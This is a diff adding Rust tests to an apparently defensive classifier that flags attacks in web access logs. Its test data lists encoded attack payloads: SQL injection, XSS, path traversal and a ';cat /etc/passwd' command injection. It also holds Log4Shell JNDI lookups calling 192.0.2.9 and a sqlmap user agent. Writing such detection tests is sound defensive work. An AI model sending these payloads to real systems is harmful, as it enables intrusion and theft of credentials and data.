@@ -20,3 +20,102 @@ fn categories(target: &str) -> Vec<&'static str> {
     let attack = Classifier::embedded().classify(parsed.access().unwrap());
     attack.map(|attack| attack.categories().iter().map(|category| category.name()).collect()).unwrap_or_default()
 }
+
+#[test]
+fn every_rule_keeps_its_own_examples() {
+    let failures: Vec<_> = check::check(&Classifier::embedded()).iter().map(ToString::to_string).collect();
+    assert_eq!(failures, [""; 0]);
+}
+
+#[test]
+fn an_attack_is_found_however_it_is_written() {
+    let cases = [
+        ("/?id=1' or '1'='1", "sqli"),
+        ("/?id=1%27%20oR%20%271%27%3D%271", "sqli"),
+        ("/?id=1%2527%2520union%2520select%2520password%2520from%2520users--%2520", "sqli"),
+        ("/?q=%3Cscript%3Ealert(1)%3C/script%3E", "xss"),
+        ("/?q=%253Csvg/onload=alert(1)%253E", "xss"),
+        ("/?page=../../../../etc/passwd", "lfi"),
+        ("/static/..%252f..%252f..%252fetc%252fpasswd", "lfi"),
+        ("/?ip=127.0.0.1;cat%20/etc/passwd", "cmdi"),
+        ("/?x=${jndi:ldap://192.0.2.9/a}", "log4shell"),
+        ("/?x=$%7B$%7Blower:j%7Dndi:ldap://192.0.2.9/a%7D", "log4shell"),
+    ];
+    for (target, category) in cases {
+        assert!(categories(target).contains(&category), "{target}: {:?}", categories(target));
+    }
+}
+
+#[test]
+fn a_word_alone_is_no_attack() {
+    let targets = [
+        "/search?q=drop+leaf+table",
+        "/search?q=o%27reilly+sql+book",
+        "/search?q=union+square+select+hotel",
+        "/search?q=sleep(ing)+bag",
+        "/search?q=javascript:+the+good+parts",
+        "/search?q=netcat",
+        "/search?q=whoami+tee",
+        "/search?q=(red+or+blue)+and+wool",
+        "/search?q=${price}",
+        "/odata/Products?$filter=Name+eq+%27Milk%27+and+Price+lt+2.55",
+        "/graphql?query={user(id:1){name}}",
+        "/login?next=/account/settings",
+        "/?token=eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U",
+    ];
+    for target in targets {
+        assert_eq!(categories(target), [""; 0], "{target}");
+    }
+}
+
+#[test]
+fn a_tools_user_agent_is_told_with_low_confidence() {
+    let line = line(b"/", b"-", b"sqlmap/1.8#stable (https://sqlmap.org)");
+    let parsed = Format::Combined.parse(&line);
+    let attack = Classifier::embedded().classify(parsed.access().unwrap()).unwrap();
+    assert!(attack.categories().contains(&crate::Category::Scanner));
+    assert_eq!(attack.confidence(), crate::attack::Confidence::Low);
+}
+
+#[test]
+fn a_finding_says_where_and_after_how_many_decodings() {
+    let line = line(b"/p?a=1&id=1%2527%2520or%25201=1--%2520", b"-", b"-");
+    let parsed = Format::Combined.parse(&line);
+    let attack = Classifier::embedded().classify(parsed.access().unwrap()).unwrap();
+    let first = &attack.findings[0];
+    assert_eq!((first.parameter.as_deref(), first.layer), (Some("id"), 2));
+    assert!(first.excerpt.contains("1' or 1=1"), "{}", first.excerpt);
+}
+
+#[test]
+fn an_explanation_and_a_verdict_agree() {
+    let line = line(b"/?id=1'+union+select+1,2--+", b"-", b"-");
+    let parsed = Format::Combined.parse(&line);
+    let (classifier, access) = (Classifier::embedded(), parsed.access().unwrap());
+    let explanation = classifier.explain(access);
+    assert_eq!(explanation.verdict, classifier.classify(access));
+    assert!(explanation.to_string().contains("sqli"), "{explanation}");
+}
+
+proptest! {
+    #![proptest_config(ProptestConfig::with_cases(64))]
+
+    #[test]
+    fn no_request_makes_the_classifier_panic_or_an_excerpt_grow(
+        target: Vec<u8>,
+        referer in "[%0-9a-fA-F<>'\"(){}$;|&/\\\\. =+-]{0,300}",
+        agent: Vec<u8>,
+    ) {
+        let line = line(&target, referer.as_bytes(), &agent);
+        let parsed = Format::Combined.parse(&line);
+        if let Some(access) = parsed.access() {
+            let classifier = Classifier::embedded();
+            let attack = classifier.classify(access);
+            prop_assert_eq!(&classifier.explain(access).verdict, &attack);
+            for finding in attack.iter().flat_map(|attack| &attack.findings) {
+                prop_assert!(finding.excerpt.chars().count() <= 120);
+                prop_assert!(!finding.excerpt.chars().any(char::is_control));
+            }
+        }
+    }
+}
